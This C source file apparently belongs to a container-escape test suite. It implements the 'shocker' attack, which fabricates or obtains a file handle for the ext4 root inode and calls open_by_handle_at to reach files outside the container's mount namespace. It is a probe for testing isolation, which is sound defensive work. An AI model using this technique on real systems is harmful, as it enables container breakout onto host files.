/* SPDX-License-Identifier: Apache-2.0 */
/* file_handle.c - attacks the mount namespace by file handles, which know no paths.
 *
 * The handle of PATH if the kernel gives it, else one made up for inode 2, the root directory of
 * an ext4 file system (the "shocker" exploit).
 */
#include <fcntl.h>

#include "escape.h"

static union {
	struct file_handle head;
	char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
} handle;

static void make_up_handle(void)
{
	const uint32_t inode_and_generation[2] = {2, 0};

	handle.head.handle_bytes = sizeof(inode_and_generation);
	handle.head.handle_type = 1; /* FILEID_INO32_GEN */
	memcpy(handle.head.f_handle, inode_and_generation, sizeof(inode_and_generation));
}

int main(int argc, char **argv)
{
	const char *path = need_arg(argc, argv, 1, "path");
	int mount_id, beside, fd;

	tried("open_by_handle_at(%s)", path);
	handle.head.handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount_id, 0) < 0)
		make_up_handle();
	beside = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	fd = open_by_handle_at(beside, &handle.head, O_RDONLY | O_CLOEXEC);
	if (fd < 0 && errno == ESTALE)
		escaped("the handle was looked up: %m");
	end_by(fd, "open_by_handle_at");
}
